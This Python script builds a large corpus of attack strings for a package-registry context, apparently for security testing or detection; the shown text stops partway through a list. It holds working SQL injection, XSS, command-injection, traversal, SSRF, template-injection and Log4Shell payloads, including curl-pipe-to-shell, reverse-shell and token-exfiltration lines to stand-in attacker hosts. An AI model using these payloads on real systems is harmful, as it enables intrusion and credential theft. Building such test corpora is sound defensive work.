#!/usr/bin/env python3
"""Attack values for the packages corpus (package registry / dependency manager).

Standard library only. Deterministic: random.Random(10202). Writes attacks.jsonl
next to this file. Most values are hand-written literals (class, value); a small
template per category joins a hand-written prefix to a hand-written payload or
applies ONE encoding (URL) to a hand-written payload.
"""
import json
import os
import random
import urllib.parse

SEED = 10202
PREFIX = "haa2"

A = {}

# ------------------------------------------------------------------ sqli (70 literals)
A["sqli"] = [
    ("search-union-select", "lodash' UNION SELECT name,password_hash,email FROM users--"),
    ("search-union-select", "react%' union all select null,token,null from api_tokens-- -"),
    ("search-union-select", "@types/node') UNION SELECT table_name,column_name FROM information_schema.columns#"),
    ("search-union-select", "left-pad' UNION SELECT 1,@@version,user(),4-- "),
    ("search-union-select", "serde' union select sqlite_version(),sql from sqlite_master--"),
    ("search-union-select", "requests' UNION SELECT NULL,banner FROM v$version--"),
    ("search-union-select", "widgets' UNION SELECT username,password FROM pg_shadow--"),
    ("search-union-select", "ui-kit' UnIoN/**/SeLeCt/**/login,secret/**/FrOm/**/maintainers--"),
    ("search-union-select", "jest'/*!50000UNION*//*!50000SELECT*/1,2,3-- -"),
    ("name-boolean", "left-pad' OR '1'='1"),
    ("name-boolean", "@acme/core' OR 1=1--"),
    ("name-boolean", "' or ''='"),
    ("name-boolean", "express' AND 1=1 AND 'a'='a"),
    ("name-boolean", "chalk' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a'--"),
    ("name-boolean", "zod' AND ASCII(SUBSTR((SELECT token FROM publish_tokens WHERE rownum=1),1,1))>77--"),
    ("name-boolean", "axios\" OR \"x\"=\"x"),
    ("name-boolean", "admin'--"),
    ("name-boolean", "maintainer') OR ('1'='1"),
    ("version-number-boolean", "1 OR 1=1"),
    ("version-number-boolean", "42 AND 1=2 UNION SELECT id,email FROM accounts"),
    ("version-number-boolean", "7) OR (1=1"),
    ("version-number-boolean", "-1 OR 2>1"),
    ("time-mysql", "lodash' AND SLEEP(5)-- -"),
    ("time-mysql", "uuid' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- "),
    ("time-mysql", "vite' OR IF(1=1,SLEEP(5),0)#"),
    ("time-mysql", "1 AND BENCHMARK(5000000,MD5(1))"),
    ("time-postgres", "typescript'; SELECT pg_sleep(10)--"),
    ("time-postgres", "eslint' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("time-postgres", "1;select case when (1=1) then pg_sleep(5) else pg_sleep(0) end--"),
    ("time-mssql", "Serilog'; WAITFOR DELAY '0:0:5'--"),
    ("time-mssql", "1; IF (SELECT COUNT(*) FROM sysobjects)>0 WAITFOR DELAY '00:00:07'--"),
    ("time-oracle", "jackson' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',6)--"),
    ("time-sqlite", "rich' AND 1=randomblob(500000000)--"),
    ("error-mysql", "numpy' AND extractvalue(1,concat(0x7e,(SELECT database())))-- -"),
    ("error-mysql", "pandas' AND updatexml(1,concat(0x3a,(select user())),1)#"),
    ("error-mssql", "Newtonsoft.Json' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--"),
    ("error-postgres", "tokio' AND 1=CAST((SELECT current_user) AS int)--"),
    ("error-oracle", "log4j' AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--"),
    ("stacked-drop", "left-pad'; DROP TABLE packages;--"),
    ("stacked-drop", "1; DELETE FROM versions WHERE 1=1;--"),
    ("stacked-update", "chalk'; UPDATE users SET role='admin' WHERE login='mallory';--"),
    ("stacked-insert", "debug'; INSERT INTO maintainers(package,login) VALUES('express','mallory');--"),
    ("stacked-mssql-xpcmdshell", "x'; EXEC master..xp_cmdshell 'ping 203.0.113.9';--"),
    ("stacked-postgres-copy", "x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("outofband-mssql", "x'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--"),
    ("outofband-mysql", "x' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\a'))-- -"),
    ("file-write-mysql", "x' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("file-read-mysql", "0 UNION SELECT LOAD_FILE('/etc/passwd'),2"),
    ("orderby-injection", "downloads,(SELECT CASE WHEN (1=1) THEN name ELSE version END)"),
    ("orderby-injection", "name ASC, (SELECT SLEEP(5))"),
    ("orderby-injection", "updated_at; DROP TABLE audit_log--"),
    ("orderby-injection", "IF(1=1,downloads,name)"),
    ("semver-field-union", "^1.2.3' UNION SELECT secret FROM npm_tokens--"),
    ("semver-field-boolean", ">=2.0.0' OR 'a'='a"),
    ("scope-field", "@acme' OR scope LIKE '%"),
    ("lockfile-integrity", "sha512-abc==' OR 1=1-- "),
    ("changelog-note-union", "Fixed #1182 ') UNION SELECT email, api_key FROM users --"),
    ("comment-as-space", "x'/**/OR/**/1=1/**/--"),
    ("comment-as-space", "1/**/UNION/**/ALL/**/SELECT/**/password/**/FROM/**/users"),
    ("case-mix", "x' uNiOn SeLeCt null,pAsSwOrD fRoM uSeRs-- -"),
    ("newline-as-space", "x'\nUNION\nSELECT\nlogin,hash\nFROM\nusers--"),
    ("tab-as-space", "x'\tor\t1=1\t--"),
    ("mysql-hash-comment", "pkg' or 1#"),
    ("mysql-backtick", "x' UNION SELECT `password` FROM `users`#"),
    ("no-space-parens", "x'or(1)=(1)--"),
    ("hex-literal", "x' UNION SELECT 0x61646d696e,2-- -"),
    ("char-concat-mssql", "x' + CHAR(39) + (SELECT TOP 1 password FROM users) + '"),
    ("pipes-concat-oracle", "x'||(SELECT password FROM users WHERE rownum=1)||'"),
    ("plain-tautology", "' OR 1=1 --"),
    ("plain-union", "' UNION SELECT username, password FROM users --"),
]

# ------------------------------------------------------------------ xss (68 literals)
A["xss"] = [
    ("readme-script-tag", "## Install\n\n<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("readme-script-tag", "Fast YAML parser <script src=https://attacker.example/x.js></script>"),
    ("readme-img-onerror", "![badge](x)<img src=x onerror=alert(document.domain)>"),
    ("readme-img-onerror", "<img src=\"https://img.shields.io/npm/v/x\" onerror=\"this.src='//attacker.example/?'+localStorage.token\">"),
    ("readme-svg-onload", "<svg onload=alert(1)>"),
    ("readme-svg-onload", "<svg/onload=fetch(`//attacker.example/${document.cookie}`)>"),
    ("readme-markdown-link-js", "[Docs](javascript:alert(document.cookie))"),
    ("readme-markdown-link-js", "[click to install](javascript:fetch('//attacker.example/'+document.cookie))"),
    ("readme-markdown-link-entity", "[changelog](jav&#x61;script:alert(1))"),
    ("readme-details-ontoggle", "<details open ontoggle=alert(1)><summary>Usage</summary></details>"),
    ("readme-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("readme-iframe-js", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("readme-object-data", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("readme-embed", "<embed src=\"javascript:alert(1)\">"),
    ("readme-math-href", "<math><mtext><a href=\"javascript:alert(1)\">docs</a></mtext></math>"),
    ("readme-body-onload", "<body onload=alert('xss')>"),
    ("readme-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("readme-video-source", "<video><source onerror=\"alert(1)\"></video>"),
    ("readme-audio-src", "<audio src=x onerror=alert(1)>"),
    ("readme-marquee", "<marquee onstart=alert(1)>new release</marquee>"),
    ("readme-form-action", "<form action=javascript:alert(1)><button>Install</button></form>"),
    ("readme-button-formaction", "<button formaction=javascript:alert(1)>Copy</button>"),
    ("readme-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("readme-base-href", "<base href=\"https://attacker.example/\">"),
    ("readme-style-import", "<style>@import 'https://attacker.example/x.css';</style><div onmouseover=alert(1)>hover</div>"),
    ("readme-link-import", "<link rel=import href=\"https://attacker.example/x.html\">"),
    ("readme-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("readme-svg-use", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("readme-svg-a-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>docs</text></a></svg>"),
    ("description-attr-breakout", "\" onmouseover=\"alert(1)"),
    ("description-attr-breakout", "A tiny util\"><script>alert(1)</script>"),
    ("description-attr-breakout", "' autofocus onfocus='alert(document.cookie)"),
    ("description-attr-breakout", "x\" style=\"position:fixed;inset:0\" onmouseover=\"alert(1)"),
    ("title-tag-breakout", "</title><script>alert(1)</script>"),
    ("textarea-breakout", "</textarea><img src=x onerror=alert(1)>"),
    ("script-context-breakout", "</script><script>alert(1)</script>"),
    ("js-string-breakout", "';alert(document.domain);//"),
    ("js-string-breakout", "\\\";alert(1);//"),
    ("js-template-breakout", "${alert(document.cookie)}"),
    ("json-in-script-breakout", "\"}</script><script>alert(1)</script>"),
    ("homepage-url-js", "javascript:alert(document.cookie)"),
    ("homepage-url-js", "JaVaScRiPt:alert(1)"),
    ("homepage-url-js", "javascript://attacker.example/%0aalert(1)"),
    ("homepage-url-js-tab", "java\tscript:alert(1)"),
    ("homepage-url-data", "data:text/html,<script>alert(document.domain)</script>"),
    ("homepage-url-vbscript", "vbscript:msgbox(\"xss\")"),
    ("changelog-entity-encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("changelog-hex-entity", "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">release</a>"),
    ("case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("nested-strip-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("slash-separator", "<img/src=x/onerror=alert(1)>"),
    ("no-quotes-backtick", "<img src=x onerror=alert`1`>"),
    ("js-unicode-escape", "<img src=x onerror=\\u0061lert(1)>"),
    ("eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("fromcharcode", "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("constructor-call", "<img src=x onerror=[].constructor.constructor('alert(1)')()>"),
    ("angular-template", "{{constructor.constructor('alert(1)')()}}"),
    ("angular-template", "{{$on.constructor('alert(document.domain)')()}}"),
    ("vue3-template", "{{_openBlock.constructor('alert(1)')()}}"),
    ("issue-comment-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("issue-comment-mxss", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("issue-stacktrace-xss", "TypeError: x is undefined\n    at <img src=x onerror=alert(1)> (index.js:1:1)"),
    ("display-name", "Zoe<script>alert(1)</script>"),
    ("display-name", "\"><svg onload=alert(1)>"),
    ("keyword-tag", "parser<img src=1 onerror=alert(1)>"),
    ("dom-clobber-form", "<form id=config><input name=registry value=https://attacker.example></form>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img", "<img src=x onerror=alert(1)>"),
]

# ------------------------------------------------------------------ cmdi (62 literals)
A["cmdi"] = [
    ("install-cmd-semicolon", "lodash; curl http://attacker.example/x.sh | sh"),
    ("install-cmd-semicolon", "left-pad;id"),
    ("install-cmd-and", "express && wget -qO- http://203.0.113.7/i | bash"),
    ("install-cmd-or", "nonexistent-pkg || nc 203.0.113.7 4444 -e /bin/sh"),
    ("install-cmd-pipe", "react | cat /etc/passwd"),
    ("install-cmd-subshell", "widgets@$(curl -s attacker.example/v)"),
    ("install-cmd-subshell", "$(id>/tmp/pwned)"),
    ("install-cmd-backtick", "chalk@`whoami`"),
    ("install-cmd-backtick", "`curl attacker.example/$(hostname)`"),
    ("install-cmd-newline", "uuid\ncurl http://attacker.example/s|sh"),
    ("install-cmd-background", "zod & ping -c 3 203.0.113.5 &"),
    ("version-field-subshell", "1.2.3$(sleep 10)"),
    ("version-field-semicolon", "^4.17.21; rm -rf / --no-preserve-root"),
    ("git-url-ext", "git+ext::sh -c touch% /tmp/pwned"),
    ("git-arg-injection", "--upload-pack=touch /tmp/pwned"),
    ("git-arg-injection", "-c core.sshCommand='sh -c \"id > /tmp/x\"' clone"),
    ("git-arg-injection", "--config=core.fsmonitor=curl${IFS}attacker.example/p|sh"),
    ("ssh-url-arg", "ssh://-oProxyCommand=curl${IFS}attacker.example|sh/repo.git"),
    ("npm-arg-injection", "--registry=http://attacker.example/ --userconfig=/dev/null"),
    ("tar-arg-injection", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    ("tar-arg-injection", "--use-compress-program=sh -c 'curl attacker.example|sh'"),
    ("find-arg-injection", "-exec sh -c 'id' ;"),
    ("rsync-arg-injection", "-e sh -c 'curl attacker.example/x|sh'"),
    ("zip-arg-injection", "-TT 'sh -c id' -T"),
    ("curl-arg-injection", "-o /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("curl-arg-injection", "--output ~/.ssh/authorized_keys https://attacker.example/k"),
    ("pip-arg-injection", "--index-url http://attacker.example/simple fastparse"),
    ("pip-arg-injection", "-r /etc/shadow"),
    ("ifs-space", "pkg;cat${IFS}/etc/passwd"),
    ("ifs-space", "x;curl$IFS-sS$IFS'attacker.example/a'|sh"),
    ("brace-expansion", "x;{cat,/etc/passwd}"),
    ("brace-expansion", "a|{wget,-q,-O-,http://203.0.113.8/s}|sh"),
    ("quote-splitting", "x;w'h'o'am'i"),
    ("quote-splitting", "x;c\"a\"t /e\"t\"c/pa\"ss\"wd"),
    ("backslash-split", "x;c\\at /et\\c/pas\\swd"),
    ("var-expansion-obfuscation", "x;a=c;b=at;$a$b /etc/passwd"),
    ("wildcard-obfuscation", "x;/???/c?t /???/p?ss??"),
    ("base64-pipe", "x;echo Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo|base64 -d|sh"),
    ("hex-printf", "x;$(printf '\\x69\\x64')"),
    ("process-substitution", "x;bash <(curl -s http://attacker.example/p)"),
    ("dev-tcp-reverse", "x; bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"),
    ("python-reverse", "x; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.10\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("perl-oneliner", "x;perl -e 'system(\"id\")'"),
    ("node-eval", "x; node -e \"require('child_process').execSync('id')\""),
    ("redirect-overwrite", "x; echo '* * * * * root curl attacker.example|sh' > /etc/cron.d/x"),
    ("postinstall-script-doc", "\"postinstall\": \"curl -s https://attacker.example/$(whoami)/$(hostname) > /dev/null\""),
    ("postinstall-script-doc", "\"preinstall\": \"node -e \\\"require('https').get('https://attacker.example/?t='+process.env.NPM_TOKEN)\\\"\""),
    ("build-script-env-exfil", "make test; env | curl -X POST --data-binary @- https://attacker.example/e"),
    ("windows-ampersand", "lodash & type C:\\Windows\\win.ini"),
    ("windows-pipe", "pkg | net user attacker P@ssw0rd /add"),
    ("windows-cmd", "x & cmd /c \"certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe\""),
    ("windows-caret-obfuscation", "x & w^h^o^a^m^i"),
    ("windows-env-substring", "x & %COMSPEC:~0,1%%COMSPEC:~-4% /c dir"),
    ("powershell", "x; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("powershell", "Serilog; iwr http://attacker.example/s -OutFile $env:TEMP\\s.exe; & $env:TEMP\\s.exe"),
    ("powershell-encoded", "x; powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA=="),
    ("powershell-subexpr", "$(Invoke-WebRequest -Uri http://attacker.example/$env:USERNAME)"),
    ("nuget-msbuild-exec", "<Target Name=\"X\" BeforeTargets=\"Build\"><Exec Command=\"curl attacker.example|sh\" /></Target>"),
    ("sleep-blind", "x;sleep 10;"),
    ("sleep-blind", "x|ping -n 11 127.0.0.1"),
    ("plain-semicolon", "; cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
]

# ------------------------------------------------------------------ traversal (44 literals)
A["traversal"] = [
    ("tarball-path", "../../../../etc/passwd"),
    ("tarball-path", "package/../../../root/.ssh/authorized_keys"),
    ("tarball-path", "package/../../.npmrc"),
    ("tarball-path", "package/../../../../../home/node/.bashrc"),
    ("readme-file-param", "docs/../../../../../../etc/shadow"),
    ("readme-file-param", "README.md/../../../../proc/self/environ"),
    ("file-dep-spec", "file:../../../../etc/passwd"),
    ("file-dep-spec", "link:../../../../root/.aws/credentials"),
    ("file-dep-spec", "file:///etc/passwd"),
    ("absolute-path", "/etc/passwd"),
    ("absolute-path", "/proc/self/cmdline"),
    ("absolute-path", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("home-dotfiles", "../../../../home/runner/.npmrc"),
    ("home-dotfiles", "../../../.pypirc"),
    ("home-dotfiles", "../../../../root/.cargo/credentials.toml"),
    ("home-dotfiles", "../../../.git/config"),
    ("windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("windows-backslash", "packages\\..\\..\\..\\Users\\Administrator\\.nuget\\NuGet\\NuGet.Config"),
    ("windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows-unc", "\\\\203.0.113.20\\share\\payload.nupkg"),
    ("windows-mixed-slash", "..\\../..\\../windows/win.ini"),
    ("dot-dot-slash-nested", "....//....//....//etc/passwd"),
    ("dot-dot-slash-nested", "..././..././..././etc/passwd"),
    ("url-encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("url-encoded-slash-only", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("url-encoded-dots-only", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("double-url-encoded", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-utf8-backslash", "..%c1%9c..%c1%9c..%c1%9cwindows/win.ini"),
    ("percent-u", "..%u2215..%u2215..%u2215etc/passwd"),
    ("percent-u", "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
    ("fullwidth", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd"),
    ("backslash-encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("null-byte", "../../../../etc/passwd%00.tgz"),
    ("null-byte", "../../../etc/passwd\u0000.json"),
    ("scope-traversal", "@acme/../../../../etc/passwd"),
    ("scope-traversal", "@../../../../../var/lib/registry/secrets"),
    ("zip-slip-entry", "package/dist/../../../../../../tmp/evil.sh"),
    ("zip-slip-entry", "lib/net45/..\\..\\..\\..\\..\\Program Files\\dotnet\\dotnet.exe"),
    ("java-war-path", "/WEB-INF/web.xml"),
    ("java-war-path", "..;/..;/WEB-INF/classes/application.properties"),
    ("plain-traversal", "../../../etc/passwd"),
    ("plain-traversal-windows", "..\\..\\..\\boot.ini"),
]

# ------------------------------------------------------------------ ssrf (44 literals)
A["ssrf"] = [
    ("registry-url-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("registry-url-metadata", "http://169.254.169.254/latest/api/token"),
    ("registry-url-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("registry-url-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("registry-url-alibaba", "http://100.100.100.200/latest/meta-data/"),
    ("registry-url-ecs", "http://169.254.170.2/v2/credentials/"),
    ("tarball-url-localhost", "http://127.0.0.1:8080/admin/"),
    ("tarball-url-localhost", "http://localhost:2375/containers/json"),
    ("tarball-url-localhost", "http://127.0.0.1:6379/"),
    ("tarball-url-localhost", "http://[::1]:9200/_cat/indices"),
    ("tarball-url-private", "http://10.0.0.12:8500/v1/kv/?recurse"),
    ("tarball-url-private", "http://192.168.1.1/cgi-bin/luci"),
    ("tarball-url-private", "http://172.17.0.1:2379/v2/keys/?recursive=true"),
    ("internal-service-name", "http://verdaccio.internal:4873/-/whoami"),
    ("internal-service-name", "http://artifactory.svc.cluster.local/artifactory/api/security/users"),
    ("internal-service-name", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("decimal-ip", "http://2852039166/latest/meta-data/"),
    ("decimal-ip", "http://2130706433:8080/"),
    ("octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("octal-ip", "http://0177.0.0.1/"),
    ("hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("hex-ip", "http://0x7f.0x0.0x0.0x1:3000/"),
    ("short-ip", "http://127.1/admin"),
    ("short-ip", "http://0/"),
    ("ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("ipv6-mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("userinfo-confusion", "https://registry.npmjs.org@169.254.169.254/latest/meta-data/"),
    ("userinfo-confusion", "http://pypi.org:443@127.0.0.1:5000/simple/"),
    ("fragment-confusion", "http://127.0.0.1:8080#@registry.npmjs.org/"),
    ("backslash-confusion", "http://registry.npmjs.org\\@127.0.0.1/"),
    ("dns-rebinding-wildcard", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("dns-rebinding-wildcard", "http://127.0.0.1.attacker.example/"),
    ("redirect-to-internal", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("file-scheme", "file:///proc/self/environ"),
    ("file-scheme", "file://localhost/C:/Windows/win.ini"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22pwned%22%0D%0ASAVE%0D%0A"),
    ("gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("ftp-internal", "ftp://10.0.0.5/pub/"),
    ("git-dep-internal", "git+http://10.1.2.3:3000/ops/secrets.git"),
    ("pip-index-internal", "--extra-index-url http://169.254.169.254/latest/user-data"),
    ("npmrc-registry-internal", "registry=http://127.0.0.1:4873/"),
    ("webhook-url", "http://localhost:8500/v1/agent/self"),
    ("plain-metadata", "http://169.254.169.254/"),
]

# ------------------------------------------------------------------ code (72 literals)
A["code"] = [
    ("ssti-jinja2", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2", "## Changelog {{ lipsum.__globals__['os'].popen('curl attacker.example|sh').read() }}"),
    ("ssti-jinja2", "{{ config.__class__.__init__.__globals__['os'].environ }}"),
    ("ssti-jinja2", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja2-filter-bypass", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("ssti-jinja2-statement", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"curl attacker.example\")}"),
    ("ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "<%= system('cat /etc/passwd') %>"),
    ("ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo `id`;{/php}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-mako", "<% import os; x=os.popen('id').read() %>${x}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("ssti-dotnet-razor", "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\"); }"),
    ("ssti-go-gomplate", "{{ file.Read \"/etc/passwd\" }}{{ env.Getenv \"NPM_TOKEN\" }}"),
    ("el-jsp", "${Runtime.getRuntime().exec('id')}"),
    ("el-jsp", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwned')}"),
    ("spel", "${T(java.lang.System).getenv()}"),
    ("spel-new", "#{new java.lang.ProcessBuilder({'id'}).start()}"),
    ("ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl", "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("mvel", "@{java.lang.Runtime.getRuntime().exec('id')}"),
    ("log4shell", "${jndi:ldap://attacker.example/a}"),
    ("log4shell", "widgets/2.1.0 ${jndi:rmi://203.0.113.44:1099/Exploit}"),
    ("log4shell-nested", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell-nested", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/z}"),
    ("log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell-upper", "${jNdI:LdAp://attacker.example:1389/o}"),
    ("eval-js", "require('child_process').execSync('id').toString()"),
    ("eval-js", "1;process.mainModule.require('child_process').exec('curl attacker.example|sh')"),
    ("eval-js-function", "Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-python", "__import__('os').system('id')"),
    ("eval-python", "1 if __import__('subprocess').call(['sh','-c','curl attacker.example|sh']) else 0"),
    ("eval-python-exec", "exec(\"import os;os.system('id')\")"),
    ("eval-php", "phpinfo();"),
    ("eval-php", "system($_GET['c']);"),
    ("eval-ruby", "`id`"),
    ("eval-ruby", "Kernel.exec('id')"),
    ("prototype-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prototype-pollution", "{\"constructor\":{\"prototype\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}"),
    ("prototype-pollution-query", "__proto__[registry]=http://attacker.example"),
    ("prototype-pollution-query", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"View changelog\")"),
    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("csv-formula-dde", "-2+3+cmd|' /C whoami'!E1"),
    ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/?\"&A2)"),
    ("xxe-pom", "<?xml version=\"1.0\"?><!DOCTYPE project [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><project><name>&xxe;</name></project>"),
    ("xxe-nuspec", "<!DOCTYPE package [<!ENTITY % r SYSTEM \"http://attacker.example/x.dtd\"> %r;]><package><metadata><id>x</id></metadata></package>"),
    ("xxe-ssrf", "<!DOCTYPE x [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><x>&s;</x>"),
    ("xinclude", "<settings xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></settings>"),
    ("yaml-python", "!!python/object/apply:os.system [\"curl attacker.example|sh\"]"),
    ("yaml-python", "dependencies: !!python/object/apply:subprocess.check_output [[\"id\"]]"),
    ("yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
